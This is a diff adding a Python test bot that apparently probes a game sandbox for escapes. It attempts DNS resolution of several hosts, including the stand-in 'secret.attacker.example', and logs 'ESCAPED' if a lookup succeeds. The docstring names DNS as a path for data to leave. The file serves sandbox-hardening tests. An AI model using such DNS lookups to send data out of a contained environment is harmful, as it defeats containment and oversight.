@@ -1,0 +1,23 @@
+"""Resolve names, which is how data leaves by DNS."""
+
+import socket
+
+from gangland import gang_of_dice
+
+
+def escaped(attempt):
+    """Try something that must not work; say so if it does."""
+    try:
+        return [f"ESCAPED {attempt()!r}"[:200]]
+    except (Exception, SystemExit) as failure:
+        return [type(failure).__name__]
+
+
+class Subject(gang_of_dice.Bot):
+    def choose_dice(self, view):
+        for name in ("localhost", "example.org", "secret.attacker.example"):
+            self.log(*escaped(lambda: socket.getaddrinfo(name, 80)))
+            self.log(*escaped(lambda: socket.gethostbyname(name)))
+        self.log(*escaped(lambda: socket.gethostbyaddr("127.0.0.1")))
+        self.log(*escaped(lambda: socket.if_nameindex()))
+        return 1
